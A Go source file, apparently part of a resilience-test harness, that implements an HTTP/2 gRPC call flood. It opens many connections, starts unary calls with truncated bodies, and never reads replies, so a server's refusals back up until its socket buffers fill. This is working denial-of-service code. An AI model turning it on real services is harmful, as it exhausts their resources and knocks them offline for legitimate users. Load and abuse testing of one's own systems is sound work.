package attack

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// CallFlood is what UnfinishedCalls did.
type CallFlood struct {
	// Conns is the connections that finished their handshake; Streams the
	// calls opened on them; Written the bytes written.
	Conns, Streams, Written int64
}

// UnfinishedCalls opens conns HTTP/2 connections to addr with cfg (a
// client certificate of one identity) and, on each, opens unary calls of
// method as fast as the connection takes them, each declaring a request of
// msgBytes and sending only its first sent bytes, and never reads
// anything the grantor answers: the calls past the identity's calls limit
// are refused at the gRPC tap, and the refusals queue at the grantor
// until the connection's socket buffers are full. It returns when ctx
// ends, closing every connection.
func UnfinishedCalls(ctx context.Context, addr string, cfg *tls.Config, method string, conns, msgBytes, sent int) CallFlood {
	var (
		wg                      sync.WaitGroup
		nconns, streams, writes atomic.Int64
	)
	for range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			d := tls.Dialer{Config: cfg}
			c, err := d.DialContext(ctx, "tcp", addr)
			if err != nil {
				return
			}
			defer c.Close()
			go func() {
				<-ctx.Done()
				c.Close()
			}()
			nconns.Add(1)
			w := &countingWriter{c: c, n: &writes}
			if _, err := w.Write([]byte(http2.ClientPreface)); err != nil {
				return
			}
			fr := http2.NewFramer(w, c)
			if fr.WriteSettings() != nil {
				return
			}
			hw := newCallHeaders(fr, method, addr)
			body := make([]byte, 5+sent)
			binary.BigEndian.PutUint32(body[1:5], uint32(msgBytes))
			for id := uint32(1); ctx.Err() == nil && id < 1<<31; id += 2 {
				if hw.write(id) != nil {
					return
				}
				if fr.WriteData(id, false, body) != nil {
					return
				}
				streams.Add(1)
			}
		}()
	}
	wg.Wait()
	return CallFlood{Conns: nconns.Load(), Streams: streams.Load(), Written: writes.Load()}
}

// countingWriter counts what is written to c; a write blocked longer than
// a minute (the grantor stopped reading) fails.
type countingWriter struct {
	c net.Conn
	n *atomic.Int64
}

func (w *countingWriter) Write(p []byte) (int, error) {
	_ = w.c.SetWriteDeadline(time.Now().Add(time.Minute))
	n, err := w.c.Write(p)
	w.n.Add(int64(n))
	return n, err
}
